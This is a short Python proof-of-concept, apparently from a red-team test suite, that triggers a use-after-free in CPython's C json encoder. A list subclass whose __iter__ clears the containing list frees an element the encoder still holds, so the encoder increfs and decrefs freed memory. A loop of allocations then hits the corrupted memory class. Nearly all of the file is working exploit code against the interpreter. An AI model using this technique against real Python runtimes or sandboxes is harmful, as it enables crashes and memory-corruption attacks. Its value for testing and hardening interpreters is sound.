# technique: json.dumps (C encoder, check_circular on) encodes a list element borrowed from an exact list; the element is a list subclass whose __iter__ (run by PySequence_Fast) clears the outer list, freeing the element; the encoder then stores the freed object in its markers dict (Py_INCREF on a free pymalloc block = freelist pointer + 1) and later decrefs it (red-team pass 82; the C encoder only gets graphs of plain values, json's Python encoder the rest)
# expect: any
import json

L = []


class M(list):
    __slots__ = ()

    def __iter__(self):
        L.clear()          # drops the only reference to self (json holds it borrowed)
        return iter([1, 2])


L.append(M([0]))
r = json.dumps(L)          # encoder_listencode_list -> PySequence_Fast(M) -> __iter__ frees M
print("r", r)
keep = [M() for i in range(10000)]   # allocate from the corrupted size class
print("alive")
